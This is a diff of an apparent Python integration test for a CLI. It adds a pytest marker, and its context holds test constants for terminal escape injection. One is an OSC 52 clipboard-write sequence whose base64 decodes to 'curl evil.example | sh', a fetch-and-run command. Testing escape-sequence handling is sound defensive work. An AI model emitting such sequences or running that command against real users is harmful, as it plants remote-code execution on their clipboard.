@@ -9,8 +9,12 @@ import pty
 import subprocess
 import sys
 
+import pytest
+
 from ..conftest import clean_env
 from .helpers import run_cli
+
+pytestmark = pytest.mark.integration
 
 TITLE = "\x1b]0;pwned\x07"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
